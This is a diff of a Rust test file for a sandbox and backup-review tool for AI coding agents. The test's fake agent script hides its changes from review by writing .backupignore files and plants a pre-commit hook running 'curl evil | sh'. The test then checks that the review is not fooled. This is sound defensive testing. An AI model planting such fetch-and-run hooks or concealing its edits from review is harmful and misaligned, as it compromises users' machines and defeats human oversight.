@@ -8,7 +8,7 @@ use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
 use std::process::Output;
 
-use crate::support::{FakeMultipass, Sandbox};
+use crate::support::{FakeSession, Sandbox};
 
 struct Project {
     sb: Sandbox,
@@ -328,42 +328,16 @@ fn agent_slow_erosion_trips_the_tripwire_against_the_oldest_snapshot() {
 /// says the rules wait to be accepted; the sources stay in the snapshots.
 #[test]
 fn run_with_fake_multipass_agent_ignore_rules_do_not_fool_the_review() {
-    let sb = Sandbox::new();
-    let fake = FakeMultipass::new(sb.home());
-    fake.launch("dev");
-    let project = sb.home().join("proj");
+    let s = FakeSession::new(
+        "#!/bin/sh\nprintf '*\\n' > .git/hooks/.backupignore\nprintf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit\nchmod +x .git/hooks/pre-commit\nprintf '*\\n' > src/.backupignore\necho changed > src/f1.rs\n",
+    );
+    let (sb, project) = (&s.sb, &s.project);
     fs::create_dir_all(project.join("src")).unwrap();
     fs::create_dir_all(project.join(".git/hooks")).unwrap();
     for i in 0..5 {
         fs::write(project.join(format!("src/f{i}.rs")), "fn x() {}\n").unwrap();
     }
-    let config = sb.home().join("config.yaml");
-    fs::write(
-        &config,
-        format!(
-            "vms:\n  dev:\n    cpu: 2\n    ram: 4G\n    disk: 20G\nmounts:\n  - source: {}\n    vm: dev\nagents:\n  codex:\n    type: codex\n",
-            project.display()
-        ),
-    )
-    .unwrap();
-    fake.install_agent(
-        "dev",
-        "codex",
-        "#!/bin/sh\nprintf '*\\n' > .git/hooks/.backupignore\nprintf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit\nchmod +x .git/hooks/pre-commit\nprintf '*\\n' > src/.backupignore\necho changed > src/f1.rs\n",
-    );
-    fake.install_agent(
-        "dev",
-        "sudo",
-        "#!/bin/sh\n[ \"$1\" = -n ] && shift\nexec \"$@\"\n",
-    );
-    let mut cmd = sb.agsekit_with(&fake);
-    cmd.arg("--config")
-        .arg(&config)
-        .arg("--non-interactive")
-        .args(["run", "--auto-mount", "codex"])
-        .current_dir(&project)
-        .env("PWD", &project);
-    let out = cmd.output().unwrap();
+    let out = s.run_agent();
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert_eq!(out.status.code(), Some(0), "{stderr}");
     assert!(
@@ -391,7 +365,7 @@ fn run_with_fake_multipass_agent_ignore_rules_do_not_fool_the_review() {
     let backups = sb.home().join("backups-proj");
     let mut b = sb.agsekit();
     b.args(["backup-once", "--source-dir"])
-        .arg(&project)
+        .arg(project)
         .arg("--dest-dir")
         .arg(&backups);
     let done = b.output().unwrap();
@@ -418,13 +392,8 @@ fn run_with_fake_multipass_agent_ignore_rules_do_not_fool_the_review() {
     }
 
     // The command the review printed undoes the planted files, hidden or not.
-    let mut restore = sb.agsekit_with(&fake);
-    restore
-        .arg("--config")
-        .arg(&config)
-        .args(&words[1..])
-        .current_dir(&project);
-    let done = restore.output().unwrap();
+    let args: Vec<&str> = words[1..].iter().map(String::as_str).collect();
+    let done = s.agsekit(&args);
     assert!(
         done.status.success(),
         "{}",
